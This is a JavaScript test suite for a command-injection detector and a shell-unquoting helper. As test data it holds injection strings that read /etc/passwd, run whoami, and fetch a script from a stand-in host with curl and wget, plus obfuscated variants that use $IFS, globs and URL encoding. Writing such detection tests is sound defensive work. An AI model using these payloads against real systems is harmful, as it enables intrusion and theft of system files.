// biome-ignore-all lint/suspicious/noTemplateCurlyInString: the values under test are lookup and shell expressions, not templates
import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { detectCmdi, unshell } from './cmdi.js';
import { fires } from './test-helpers.js';

describe('detectCmdi', () => {
  test('operators followed by commands, substitutions, absolute binaries', () => {
    for (const value of [
      'x; cat /etc/passwd',
      'a;id',
      '|id|',
      '127.0.0.1 && whoami',
      '`uname -a`',
      '$(curl http://evil.example/x.sh)',
      '& ping -n 30 127.0.0.1 &',
      '/bin/sh -c id',
      'x\nwget http://evil.example',
      'cmd.exe /c dir',
      '<!--#exec cmd="ls" -->',
      'for /f "tokens=1" %a in (file.txt) do echo %a',
    ]) {
      assert.ok(fires(detectCmdi, value), value);
    }
  });

  test('obfuscation: quotes, backslashes, $IFS, globs, encoding', () => {
    for (const value of [
      ";c''at /e't'c/pa\"\"sswd",
      ';w\\h\\o\\a\\m\\i',
      ';cat${IFS}/etc/passwd',
      ';/???/c?t /???/p??s??',
      '%3Bwhoami',
      '%253Bcat%2520%252Fetc%252Fpasswd',
    ]) {
      assert.ok(fires(detectCmdi, value, { location: 'query' }), value);
    }
  });

  test('benign look-alikes do not fire', () => {
    for (const value of [
      'Tom & Jerry',
      'a&b',
      'B&W photos',
      'Hello; more info below',
      'cat food',
      'ping pong',
      'I like Python; it is nice',
      'salt & pepper',
      'jane.doe@example.com',
      'id',
    ]) {
      assert.equal(fires(detectCmdi, value), false, value);
    }
  });

  test('unshell undoes shell quoting', () => {
    assert.equal(unshell("c''at /e't'c/pa\"\"sswd"), 'cat /etc/passwd');
    assert.equal(unshell('cat${IFS}/etc/passwd'), 'cat /etc/passwd');
  });
});
